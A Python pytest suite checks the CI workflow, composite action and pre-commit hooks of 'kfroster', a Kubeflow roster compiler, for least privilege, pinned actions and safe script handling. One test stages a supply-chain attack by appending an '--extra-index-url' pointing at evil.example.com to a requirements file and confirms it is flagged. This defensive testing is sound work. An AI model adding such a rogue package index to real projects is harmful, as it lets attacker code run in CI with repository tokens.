"""CI and editor integration: the workflow, the composite action, the pre-commit hooks, templates.

No network and no real GitHub: the YAML is read and checked against the real command line, the
hooks run on a copy of the example roster, and the workflow's own scripts run in bash on a real
git repository with a fake GitHub API, the way a runner would run them.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
import typer
from ruamel.yaml import YAML

from compiler.cli import app
from compiler.review.plan.model import RECOMMENDED_FAIL_ON, RISK_KINDS
from compiler.review.pr_comment import MARKER
from compiler.review.thresholds import parse_fail_on
from tests.conftest import REPO
from tests.fake_github import NUMBER, REPOSITORY, FakeGitHub, serve
from tests.gitrepo import GIT_ENV, git

WORKFLOW = REPO / ".github" / "workflows" / "roster-review.yml"
ACTION = REPO / "action.yml"
HOOKS = REPO / ".pre-commit-hooks.yaml"
PRE_COMMIT_CONFIG = REPO / ".pre-commit-config.yaml"
TEMPLATES = REPO / "compiler" / "output" / "templates"
TEMPLATE_WORKFLOW = TEMPLATES / "roster-review.yml"
TEMPLATE_PRE_COMMIT = TEMPLATES / "pre-commit-config.yaml"
WORKFLOWS = [WORKFLOW, TEMPLATE_WORKFLOW]
HOOK_IDS = ["kfroster-validate", "kfroster-compile-check"]
BIN = Path(sys.executable).parent
# A full commit, e.g. actions/checkout@d23441a4..., or this repository's own action.
PINNED = re.compile(r"^(\./|[\w.-]+/[\w.-]+@[0-9a-f]{40})$")


def load(path: Path) -> Any:
    """Read YAML as GitHub and pre-commit do (1.2: `on` stays a string)."""
    return YAML(typ="safe", pure=True).load(path)


def steps_of(path: Path) -> list[dict[str, Any]]:
    """Return the steps of the composite action, or of every job of a workflow."""
    document = load(path)
    if "runs" in document:
        return list(document["runs"]["steps"])
    return [step for job in document["jobs"].values() for step in job["steps"]]


def run_scripts(path: Path) -> list[str]:
    return [step["run"] for step in steps_of(path) if "run" in step]


def command_group() -> Any:
    """Return the click group Typer builds from the app: its commands and their options."""
    group = typer.main.get_command(app)
    assert hasattr(group, "commands")
    return group


def kfroster_invocations(script: str) -> list[tuple[dict[str, str], list[str]]]:
    """Return every `kfroster ...` command of a bash script: its env assignments and its words."""
    joined = script.replace("\\\n", " ")
    opened = re.sub(r"\$\{\w+:\+([^}]*)\}", r"\1", joined)
    # A command starts a line, or follows `if` or `!`, after any VAR=value assignments; text
    # inside an echo is no command.
    found = re.findall(r"(?m)^[ \t]*(?:if +|! +)?((?:\w+=\S* +)*kfroster [^;|&\n]*)", opened)
    invocations = []
    for command in found:
        words = shlex.split(command)
        start = words.index("kfroster")
        env = dict(word.split("=", 1) for word in words[:start])
        invocations.append((env, words[start:]))
    return invocations


def invocations_with_env() -> list[tuple[dict[str, str], list[str]]]:
    paths = [ACTION, TEMPLATE_WORKFLOW]
    return [
        invocation
        for path in paths
        for script in run_scripts(path)
        for invocation in kfroster_invocations(script)
    ]


def all_invocations() -> list[list[str]]:
    return [words for _, words in invocations_with_env()]


def options(words: list[str]) -> dict[str, str | None]:
    """Map each --option of a command to its value (None for a flag)."""
    command = command_group().commands[words[1]]
    flags = {
        name: param
        for param in command.params
        if getattr(param, "param_type_name", "") == "option"
        for name in (*param.opts, *param.secondary_opts)
    }
    found: dict[str, str | None] = {}
    rest = iter(words[2:])
    for word in rest:
        if word.startswith("--"):
            assert word in flags, f"kfroster {words[1]} has no option {word}"
            found[word] = None if flags[word].is_flag else next(rest)
    return found


# --- the workflow of this repository and the template for roster repositories -----------------


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_runs_on_pull_requests_that_touch_the_roster(path: Path) -> None:
    triggers = load(path)["on"]
    # pull_request_target would run with a write token on a fork's files.
    assert list(triggers) == ["pull_request"]
    paths = triggers["pull_request"]["paths"]
    # deploy/ is applied by the engine as out/ is: a change to it alone is reviewed too.
    assert {"users.yaml", "out/**", "deploy/**", "schemas/**"} <= set(paths)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_asks_for_the_least_permissions(path: Path) -> None:
    workflow = load(path)
    # Nothing at workflow level: a job added later starts with no permission at all.
    assert workflow["permissions"] == {}
    [job] = workflow["jobs"].values()
    assert job["permissions"] == {"contents": "read", "pull-requests": "write"}


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_reviews_each_pull_request_once_at_a_time(path: Path) -> None:
    concurrency = load(path)["concurrency"]
    assert "${{ github.event.pull_request.number }}" in concurrency["group"]
    assert concurrency["cancel-in-progress"] is True


@pytest.mark.parametrize("path", [*WORKFLOWS, ACTION], ids=lambda p: p.name)
def test_actions_are_pinned_to_a_commit(path: Path) -> None:
    used = [step["uses"] for step in steps_of(path) if "uses" in step]
    assert used
    assert [uses for uses in used if not PINNED.match(uses)] == []


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_checkout_has_the_base_branch_and_keeps_no_credentials(path: Path) -> None:
    [checkout] = [s for s in steps_of(path) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}


@pytest.mark.parametrize("path", [*WORKFLOWS, ACTION], ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_script(path: Path) -> None:
    """Inputs and event text reach scripts through env only: nothing can become shell code."""
    scripts = run_scripts(path)
    assert [script for script in scripts if "${{" in script] == []
    assert "github.event" not in "".join(scripts)


@pytest.mark.parametrize("path", [TEMPLATE_WORKFLOW, ACTION], ids=lambda p: p.name)
def test_the_comment_step_runs_the_kfroster_command(path: Path) -> None:
    """No module of the package by its path: only the installed kfroster's own commands."""
    scripts = run_scripts(path)
    assert not any("-m compiler" in script for script in scripts)
    comments = [options(w) for w in all_invocations() if w[1] == "comment"]
    assert comments == [{"--author": "$COMMENT_AUTHOR"}] * 2


def test_this_repository_reviews_itself_with_its_own_action() -> None:
    steps = steps_of(WORKFLOW)
    assert [step["uses"].split("@")[0] for step in steps] == ["actions/checkout", "./"]
    assert steps[1]["with"] == {"roster": "users.yaml", "out": "out"}
    assert {"action.yml", ".github/workflows/roster-review.yml"} <= set(
        load(WORKFLOW)["on"]["pull_request"]["paths"]
    )


# --- the composite action ----------------------------------------------------------------------


def test_action_is_composite_and_every_script_runs_in_bash() -> None:
    action = load(ACTION)
    assert action["runs"]["using"] == "composite"
    assert {step.get("shell") for step in steps_of(ACTION) if "run" in step} == {"bash"}


def test_every_input_is_described_used_and_declared() -> None:
    action = load(ACTION)
    declared = set(action["inputs"])
    text = ACTION.read_text(encoding="utf-8")
    used = set(re.findall(r"\$\{\{[^}]*\binputs\.([\w-]+)", text))
    assert used == declared
    assert all(spec.get("description") for spec in action["inputs"].values())
    assert {"roster", "out", "base-ref", "fail-on", "kfroster", "python-version"} <= declared


def test_action_output_names_a_step_that_sets_it() -> None:
    value = load(ACTION)["outputs"]["plan"]["value"]
    [(step_id, name)] = re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", value)
    [step] = [s for s in steps_of(ACTION) if s.get("id") == step_id]
    assert f'echo "{name}=' in step["run"]


@pytest.mark.parametrize("path", [ACTION, TEMPLATE_WORKFLOW], ids=lambda p: p.name)
def test_checks_after_install_run_even_when_one_fails(path: Path) -> None:
    """validate failing must not hide compile --check, the plan or the summary."""
    steps = [step for step in steps_of(path) if "run" in step]
    names = [step["name"] for step in steps]
    later = steps[names.index("Validate the roster") :]
    assert all(step["if"].startswith("${{ !cancelled() &&") for step in later)
    # Neither always() (it ignores cancellation) nor continue-on-error (the job must fail).
    assert [s for s in steps_of(path) if "always()" in s.get("if", "")] == []
    assert [s for s in steps_of(path) if "continue-on-error" in s] == []


def test_the_template_runs_the_same_scripts_as_the_action() -> None:
    def scripts(path: Path) -> list[tuple[str, str | None, str]]:
        return [(s["name"], s.get("id"), s["run"]) for s in steps_of(path) if "run" in s]

    assert scripts(TEMPLATE_WORKFLOW) == scripts(ACTION)


def test_the_template_fails_on_the_recommended_threshold() -> None:
    """Routine onboarding passes, HIGH and CRITICAL risks fail; docs/ci.md says the same."""
    [job] = load(TEMPLATE_WORKFLOW)["jobs"].values()
    assert job["env"]["FAIL_ON"] == RECOMMENDED_FAIL_ON
    parse_fail_on(job["env"]["FAIL_ON"], RISK_KINDS)
    page = (REPO / "docs" / "ci.md").read_text(encoding="utf-8")
    assert f"fail-on: {RECOMMENDED_FAIL_ON}\n" in page


def test_scripts_call_existing_commands_and_options() -> None:
    """Every option exists (options() asserts it); the end-to-end tests run the values."""
    group = command_group()
    invocations = all_invocations()
    assert invocations
    for words in invocations:
        if words[1].startswith("--"):
            assert words[1:] == ["--version"]
            continue
        assert words[1] in group.commands, words
        options(words)


def test_scripts_validate_with_annotations_and_as_text() -> None:
    formats = {options(w)["--format"] for w in all_invocations() if w[1] == "validate"}
    assert formats == {"github", "text"}


def test_only_validate_annotates_problems() -> None:
    """Each problem is one annotation: other commands print theirs as text in the log."""
    for env, words in invocations_with_env():
        if words[1] in ("compile", "diff"):
            assert options(words).get("--format") == "text" or env == {"GITHUB_ACTIONS": "false"}


def test_scripts_check_that_out_is_compiled() -> None:
    compiles = [options(w) for w in all_invocations() if w[1] == "compile"]
    assert compiles
    assert all("--check" in found and found["--out"] == "$OUT_DIR" for found in compiles)


def test_scripts_plan_against_the_base_within_each_budget() -> None:
    plans = [options(w) for w in all_invocations() if w[1] == "diff"]
    assert plans
    # In full: a tag named origin/<base> must not stand in for the branch.
    assert {found["--base"] for found in plans} == {"refs/remotes/origin/$BASE_REF"}
    # The plan compares out/ at the base with this compile: it must read the same out/.
    assert {found["--out"] for found in plans} == {"$OUT_DIR"}
    assert {found["--format"] for found in plans} == {"markdown"}
    budgets = sorted(int(str(found["--max-chars"])) for found in plans)
    # A comment takes 65,536 characters; a job summary 1 MiB.
    assert budgets[0] <= 65_536 < budgets[-1] <= 1_048_576
    assert [found["--fail-on"] for found in plans if "--fail-on" in found] == ["$FAIL_ON"] * 2


# --- the templates `kfroster init` writes --------------------------------------------------------


def test_templates_ship_inside_the_package() -> None:
    """kfroster init reads them with importlib.resources, from a wheel as from a checkout."""
    templates = files("compiler.output") / "templates"
    for name in ("roster-review.yml", "pre-commit-config.yaml"):
        assert load_text(templates.joinpath(name).read_text(encoding="utf-8"))


def load_text(text: str) -> Any:
    return YAML(typ="safe", pure=True).load(text)


def test_templates_name_no_kfroster_to_install() -> None:
    """Which kfroster CI and the hooks install is pinned by kfroster init into one file
    (.kfroster/requirements.txt): a version here would name one no index may have."""
    for path in TEMPLATES.iterdir():
        assert re.search(r"kfroster ?(==|@ )", path.read_text(encoding="utf-8")) is None, path


# --- pre-commit ---------------------------------------------------------------------------------


def published_hooks() -> list[dict[str, Any]]:
    return list(load(HOOKS))


def test_published_hooks_are_kfroster_commands() -> None:
    hooks = published_hooks()
    assert [hook["id"] for hook in hooks] == HOOK_IDS
    for hook in hooks:
        assert hook["language"] == "python"
        assert hook["pass_filenames"] is False
        words = shlex.split(hook["entry"])
        assert words[0] == "kfroster"
        assert words[1] in command_group().commands
        assert [word for word in words[2:] if word.startswith("-")] == (
            ["--check"] if words[1] == "compile" else []
        )


@pytest.mark.parametrize(
    ("hook_id", "path", "runs"),
    [
        ("kfroster-validate", "users.yaml", True),
        ("kfroster-validate", "out/profiles/chen.yaml", False),
        ("kfroster-validate", "team/users.yaml", False),
        ("kfroster-compile-check", "users.yaml", True),
        ("kfroster-compile-check", "out/profiles/chen.yaml", True),
        ("kfroster-compile-check", "deploy/kubeflow-users.yaml", True),
        ("kfroster-compile-check", "README.md", False),
    ],
)
def test_hooks_run_when_the_roster_or_out_changes(hook_id: str, path: str, runs: bool) -> None:
    [hook] = [hook for hook in published_hooks() if hook["id"] == hook_id]
    assert bool(re.search(hook["files"], path)) is runs


@pytest.fixture
def roster_copy(tmp_path: Path) -> Path:
    """A copy of the example roster and its compiled out/."""
    shutil.copy(REPO / "users.yaml", tmp_path / "users.yaml")
    shutil.copytree(REPO / "out", tmp_path / "out")
    return tmp_path


def run_hook(hook: dict[str, Any], cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run a hook's entry as pre-commit would with pass_filenames false: no file arguments."""
    words = shlex.split(hook["entry"])
    return subprocess.run(
        [str(BIN / words[0]), *words[1:]],
        cwd=cwd,
        env={**os.environ, "NO_COLOR": "1"},
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.parametrize("hook_id", HOOK_IDS)
def test_hooks_pass_on_the_example_roster(hook_id: str, roster_copy: Path) -> None:
    [hook] = [hook for hook in published_hooks() if hook["id"] == hook_id]
    result = run_hook(hook, roster_copy)
    assert result.returncode == 0, result.stderr


def test_validate_hook_fails_on_an_invalid_roster(roster_copy: Path) -> None:
    roster = roster_copy / "users.yaml"
    roster.write_text(roster.read_text(encoding="utf-8") + "  - {name: ghost, owner: nobody}\n")
    result = run_hook(published_hooks()[0], roster_copy)
    assert result.returncode == 1
    assert "[unknown-user]" in result.stderr


def test_compile_check_hook_fails_on_a_hand_edited_out(roster_copy: Path) -> None:
    edited = roster_copy / "out" / "profiles" / "chen.yaml"
    edited.write_text(edited.read_text(encoding="utf-8") + "# edited by hand\n")
    result = run_hook(published_hooks()[1], roster_copy)
    assert result.returncode == 1
    assert "out/profiles/chen.yaml" in result.stderr


def local_hooks(path: Path) -> dict[str, dict[str, Any]]:
    [local] = [repo for repo in load(path)["repos"] if repo["repo"] == "local"]
    return {hook["id"]: hook for hook in local["hooks"]}


@pytest.mark.parametrize(
    ("path", "language"),
    [(PRE_COMMIT_CONFIG, "system"), (TEMPLATE_PRE_COMMIT, "python")],
    ids=["this repository", "template"],
)
def test_local_hooks_mirror_the_published_ones(path: Path, language: str) -> None:
    """Same id, name, entry and files; only how kfroster is installed differs."""
    hooks = local_hooks(path)
    for published in published_hooks():
        mirrored = dict(hooks[published["id"]])
        assert mirrored.pop("language") == language
        # The template runs kfroster through the script that installs the pinned one.
        entry = mirrored.pop("entry")
        if language == "python":
            command = published["entry"].removeprefix("kfroster ")
            assert entry == f"python .kfroster/hook.py {command}"
        else:
            assert entry == published["entry"]
        expected = {k: v for k, v in published.items() if k not in ("language", "entry")}
        if language == "python":
            assert mirrored.pop("files") == published["files"].replace(")$", r"|\.kfroster/.*)$")
            expected.pop("files")
        assert mirrored == expected


def test_this_repository_needs_no_network_for_its_hooks() -> None:
    """Every hook runs a tool from .venv: no hook repository to download."""
    repos = load(PRE_COMMIT_CONFIG)["repos"]
    assert [repo["repo"] for repo in repos] == ["local"]
    assert {hook["language"] for hook in repos[0]["hooks"]} == {"system"}


# --- the review scripts, run as a runner would run them -----------------------------------------


EXPRESSIONS = {"${{ github.base_ref }}": "main", "${{ github.token }}": "t0ken"}


@pytest.fixture
def pull_request(tmp_path: Path) -> Path:
    """A clone on a branch that adds an administrator, its origin/main not fetched yet."""
    origin, work = tmp_path / "origin.git", tmp_path / "work"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    git(tmp_path, "init", "-q", "-b", "main", str(work))
    shutil.copy(REPO / "users.yaml", work / "users.yaml")
    shutil.copytree(REPO / "out", work / "out")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "roster")
    git(work, "remote", "add", "origin", str(origin))
    git(work, "push", "-q", "origin", "main")
    git(work, "switch", "-q", "-c", "add-dana")
    roster = work / "users.yaml"
    text = roster.read_text(encoding="utf-8")
    admin = "  - {name: tomasz, email: tomasz.nowak@example.com, clusterRole: admin}\n"
    new_admin = "  - {name: dana, email: dana.kim@example.com, clusterRole: admin}\n"
    roster.write_text(text.replace(admin, admin + new_admin), encoding="utf-8")
    subprocess.run([str(BIN / "kfroster"), "compile", "users.yaml"], cwd=work, check=True)
    git(work, "commit", "-q", "-am", "Add dana as an administrator")
    return work


class Job:
    """Runs a workflow's steps by name in bash, with a runner's environment files."""

    def __init__(
        self, workdir: Path, api_url: str, env: dict[str, str], workflow: Path = TEMPLATE_WORKFLOW
    ) -> None:
        self.workdir = workdir
        self.temp = workdir.parent / "runner-temp"
        self.temp.mkdir(exist_ok=True)
        self.summary = self.temp / "step-summary.md"
        self.output = self.temp / "output.txt"
        event = self.temp / "event.json"
        event.write_text(json.dumps({"pull_request": {"number": NUMBER}}), encoding="utf-8")
        [job] = load(workflow)["jobs"].values()
        self.env = {
            **GIT_ENV,
            "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
            "GITHUB_ACTIONS": "true",
            "RUNNER_TEMP": str(self.temp),
            "GITHUB_OUTPUT": str(self.output),
            "GITHUB_STEP_SUMMARY": str(self.summary),
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_API_URL": api_url,
            "GITHUB_SERVER_URL": "https://github.example",
            "GITHUB_RUN_ID": "42",
            **{key: str(value) for key, value in job["env"].items()},
            **env,
        }
        self.steps = {step["name"]: step for step in job["steps"]}

    def run(self, name: str) -> subprocess.CompletedProcess[str]:
        step = self.steps[name]
        step_env = {key: EXPRESSIONS[value] for key, value in step.get("env", {}).items()}
        script = self.temp / "step.sh"
        script.write_text(step["run"], encoding="utf-8")
        return subprocess.run(
            # What a runner runs for `shell: bash`.
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
            cwd=self.workdir,
            env={**self.env, **step_env},
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    with serve(FakeGitHub()) as fake:
        yield fake


def test_review_of_a_pull_request_end_to_end(pull_request: Path, github: FakeGitHub) -> None:
    # Every step succeeds when no risk is refused (dana's admin role fails FAIL_ON=high).
    job = Job(pull_request, github.url, {"FAIL_ON": ""})
    for name in (
        "Fetch the base branch",
        "Validate the roster",
        "Check that out/ is compiled from the roster",
        "Plan what the pull request grants and removes",
        "Add the plan to the job summary",
        "Create or update the plan comment",
    ):
        result = job.run(name)
        assert result.returncode == 0, f"{name}:\n{result.stdout}{result.stderr}"
    assert git(pull_request, "rev-parse", "origin/main") == git(pull_request, "rev-parse", "main")
    plans = job.temp / "kfroster-plan"
    comment = (plans / "comment.md").read_text(encoding="utf-8")
    assert comment.splitlines()[0] == MARKER
    assert "dana" in comment
    assert job.summary.read_text(encoding="utf-8") == (plans / "summary.md").read_text("utf-8")
    assert job.output.read_text(encoding="utf-8") == f"plan={plans / 'comment.md'}\n"
    [posted] = github.comments
    assert posted["body"].startswith(comment.rstrip("\n"))


@pytest.mark.parametrize(
    ("fail_on", "status"),
    [("", 0), ("quota", 0), ("privilege", 1), ("high", 1), ("owner:high", 0)],
)
def test_fail_on_fails_the_plan_step_yet_the_summary_is_written(
    pull_request: Path, github: FakeGitHub, fail_on: str, status: int
) -> None:
    """A new administrator is a privilege risk: it fails the check only when fail-on names it."""
    job = Job(pull_request, github.url, {"FAIL_ON": fail_on})
    assert job.run("Fetch the base branch").returncode == 0
    plan = job.run("Plan what the pull request grants and removes")
    assert plan.returncode == status, plan.stdout + plan.stderr
    assert ("::error title=kfroster plan::" in plan.stdout) is bool(status)
    assert job.run("Add the plan to the job summary").returncode == 0
    assert MARKER in job.summary.read_text(encoding="utf-8")


def test_a_tag_named_like_the_base_branch_does_not_replace_it(
    pull_request: Path, github: FakeGitHub
) -> None:
    """Issue 12 item 2: a tag origin/main at the pull request's commit; the plan still
    compares with the base branch, so the new administrator is a risk that fails the check."""
    git(pull_request, "tag", "origin/main")
    job = Job(pull_request, github.url, {"FAIL_ON": "privilege"})
    assert job.run("Fetch the base branch").returncode == 0
    plan = job.run("Plan what the pull request grants and removes")
    assert plan.returncode == 1, plan.stdout + plan.stderr
    comment = (job.temp / "kfroster-plan" / "comment.md").read_text(encoding="utf-8")
    assert "dana" in comment and "No changes." not in comment


def test_the_base_branch_is_fetched_even_if_a_tag_bears_its_full_name(
    pull_request: Path, github: FakeGitHub
) -> None:
    git(pull_request, "update-ref", "-d", "refs/remotes/origin/main")
    git(pull_request, "tag", "refs/remotes/origin/main")
    job = Job(pull_request, github.url, {"FAIL_ON": "privilege"})
    assert job.run("Fetch the base branch").returncode == 0
    fetched = git(pull_request, "show-ref", "--verify", "--hash", "refs/remotes/origin/main")
    assert fetched == git(pull_request, "rev-parse", "refs/heads/main")
    assert job.run("Plan what the pull request grants and removes").returncode == 1


def test_an_invalid_roster_fails_the_checks_and_still_gets_a_summary(
    pull_request: Path, github: FakeGitHub
) -> None:
    roster = pull_request / "users.yaml"
    broken = "".join(f"  - {{name: team-{n}, owner: nobody-{n}}}\n" for n in range(12))
    roster.write_text(roster.read_text(encoding="utf-8") + broken, encoding="utf-8")
    # Without fail-on, only validate fails for an invalid pull request (with it, the plan too).
    job = Job(pull_request, github.url, {"FAIL_ON": ""})
    assert job.run("Fetch the base branch").returncode == 0

    validate = job.run("Validate the roster")
    assert validate.returncode == 1
    # More errors than GitHub shows as annotations: every one is printed again as text.
    annotations = [line for line in validate.stderr.splitlines() if line.startswith("::error ")]
    texts = [line for line in validate.stderr.splitlines() if ": error: " in line]
    assert len(annotations) == len(texts) >= 12
    assert job.run("Check that out/ is compiled from the roster").returncode == 1
    # The pull request's roster is what is invalid, and validate already failed for it.
    assert job.run("Plan what the pull request grants and removes").returncode == 0
    assert job.run("Add the plan to the job summary").returncode == 0
    assert job.summary.read_text(encoding="utf-8").strip()


@pytest.fixture
def scaffolded(tmp_path: Path) -> Iterator[Any]:
    """Make a repository as `kfroster init` with an engine makes it; yield a function that
    takes the engine's flags and returns (repository, Job)."""

    def make(*flags: str) -> tuple[Path, Job]:
        work = tmp_path / "-".join(flag.strip("-") for flag in flags[:1])
        result = subprocess.run(
            [str(BIN / "kfroster"), "init", str(work), *flags, "--kfroster", "kfroster==0.1.0"],
            capture_output=True,
            text=True,
            check=False,
        )
        assert result.returncode == 0, result.stderr
        workflow = work / ".github" / "workflows" / "roster-review.yml"
        return work, Job(work, "http://127.0.0.1:9", {}, workflow)

    yield make


@pytest.mark.parametrize(
    "flags", [("--flux",), ("--argocd", "--repo-url", "https://git.example.com/roster.git")]
)
def test_ci_checks_deploy_as_strictly_as_out(scaffolded: Any, flags: tuple[str, ...]) -> None:
    """Issue 12 item 6 (c): a hand edit of deploy/ (a Flux `spec.patches` adding a subject to
    every binding) passed every step before: nothing checked deploy/."""
    work, job = scaffolded(*flags)
    assert job.env["DEPLOY"] == ""  # settings.deploy in the roster says how deploy/ is written
    step = "Check that deploy/ is what kfroster deploy writes"
    assert job.run(step).returncode == 0
    [manifest] = sorted((work / "deploy").iterdir())
    manifest.write_text(
        manifest.read_text(encoding="utf-8")
        + '  patches:\n    - patch: \'[{"op": "add", "path": "/subjects/-"}]\'\n',
        encoding="utf-8",
    )
    edited = job.run(step)
    assert edited.returncode == 1
    assert f"  changed  deploy/{manifest.name}" in edited.stderr.splitlines()
    manifest.unlink()
    (work / "deploy" / "extra.yaml").write_text("kind: Kustomization\n", encoding="utf-8")
    foreign = job.run(step)
    assert foreign.returncode == 1
    assert "  foreign  deploy/extra.yaml" in foreign.stderr.splitlines()


def test_a_deploy_directory_nobody_said_how_to_check_fails(scaffolded: Any) -> None:
    work, job = scaffolded()
    step = "Check that deploy/ is what kfroster deploy writes"
    assert job.env["DEPLOY"] == ""
    assert job.run(step).returncode == 0
    (work / "deploy").mkdir()
    result = job.run(step)
    assert result.returncode == 1
    assert result.stdout.startswith("::error title=kfroster::deploy/ exists")


def test_the_docs_document_every_input_and_hook() -> None:
    section = (REPO / "docs" / "ci.md").read_text(encoding="utf-8")
    documented = set(re.findall(r"^\| `([\w-]+)` \|", section, flags=re.MULTILINE))
    assert documented == set(load(ACTION)["inputs"])
    assert all(f"`{hook_id}`" in section for hook_id in HOOK_IDS)
    # Pinned to a commit the reader fills in: kfroster has no release tag to name.
    assert "uses: OWNER/kfroster@<full commit id>" in section


def test_no_page_names_a_kfroster_release_that_does_not_exist() -> None:
    """kfroster has no release tag and no package on an index: a page, the action's help or the
    published hooks' example that named `v0.1.0` or `kfroster==0.1.0` sent readers to a tag
    that does not exist, or to an index name anyone could register (issue 15)."""
    stale = re.compile(r"kfroster==\d|kfroster@v\d|rev: v\d|KFROSTER_PACKAGE")
    pages = [REPO / "README.md", *sorted((REPO / "docs").glob("*.md"))]
    found = [
        f"{path.relative_to(REPO)}:{number}: {line.strip()}"
        for path in pages
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if stale.search(line)
    ]
    # action.yml's script passes its `kfroster` input as KFROSTER_PACKAGE: only its help counts.
    found += [
        f"action.yml: input {name}: {spec['description']}"
        for name, spec in load(ACTION)["inputs"].items()
        if stale.search(spec["description"])
    ]
    found += [
        f".pre-commit-hooks.yaml:{number}: {line.strip()}"
        for number, line in enumerate(HOOKS.read_text(encoding="utf-8").splitlines(), start=1)
        if stale.search(line)
    ]
    assert found == []


@pytest.fixture
def scaffolded_pull_request(tmp_path: Path) -> Path:
    """A repository kfroster init made, pushed to origin/main, on a branch of its own."""
    origin, work = tmp_path / "origin.git", tmp_path / "work"
    done = subprocess.run(
        [str(BIN / "kfroster"), "init", str(work), "--flux", "--kfroster", "kfroster==0.1.0"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    git(work, "init", "-q", "-b", "main")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "scaffold")
    git(work, "remote", "add", "origin", str(origin))
    git(work, "push", "-q", "origin", "main")
    git(work, "update-ref", "-d", "refs/remotes/origin/main")
    git(work, "switch", "-q", "-c", "change")
    return work


@pytest.mark.parametrize(
    "edit",
    [
        ".kfroster/requirements.txt",  # another kfroster (or another index) for CI and hooks
        ".kfroster/hook.py",  # other code run by every reviewer's pre-commit
    ],
)
def test_a_change_to_what_ci_installs_is_flagged_before_it_is_installed(
    scaffolded_pull_request: Path, github: FakeGitHub, edit: str
) -> None:
    """Attack: a pull request swaps the pinned kfroster for code of its author's, which CI
    would then install and run with the job's token. The workflow runs for it (paths), and
    says so on the file, in the job summary and in the plan comment, before installing."""
    work = scaffolded_pull_request
    workflow = work / ".github/workflows/roster-review.yml"
    assert ".kfroster/**" in load(workflow)["on"]["pull_request"]["paths"]
    changed = work / edit
    changed.write_text(
        changed.read_text(encoding="utf-8") + "--extra-index-url https://evil.example.com\n"
    )
    git(work, "commit", "-q", "-am", "another kfroster")
    job = Job(work, github.url, {"FAIL_ON": ""}, workflow)
    steps = list(job.steps)
    compare = "Compare the kfroster requirement with the base branch"
    assert steps.index(compare) < steps.index("Install kfroster")
    assert job.run("Fetch the base branch").returncode == 0
    flagged = job.run(compare)
    assert flagged.returncode == 0, flagged.stderr
    assert flagged.stdout.splitlines() == [
        "::warning file=.kfroster/requirements.txt,title=kfroster requirement changed::This pull "
        "request changes which kfroster CI and the pre-commit hooks install: review it as code."
    ]
    assert "changes which kfroster CI and the pre-commit hooks install" in job.summary.read_text(
        encoding="utf-8"
    )
    plan = job.run("Plan what the pull request grants and removes")
    assert plan.returncode == 0, plan.stdout + plan.stderr
    comment = (job.temp / "kfroster-plan" / "comment.md").read_text(encoding="utf-8")
    assert comment.startswith(MARKER)
    assert "changes which kfroster CI and the pre-commit hooks install" in comment


def test_an_unchanged_requirement_is_not_flagged(
    scaffolded_pull_request: Path, github: FakeGitHub
) -> None:
    work = scaffolded_pull_request
    roster = work / "users.yaml"
    roster.write_text(roster.read_text(encoding="utf-8") + "# a comment\n", encoding="utf-8")
    git(work, "commit", "-q", "-am", "a comment")
    job = Job(work, github.url, {"FAIL_ON": ""}, work / ".github/workflows/roster-review.yml")
    assert job.run("Fetch the base branch").returncode == 0
    quiet = job.run("Compare the kfroster requirement with the base branch")
    assert quiet.returncode == 0
    assert quiet.stdout == ".kfroster is as on the base branch.\n"
    assert not job.summary.exists() or "kfroster CI" not in job.summary.read_text("utf-8")
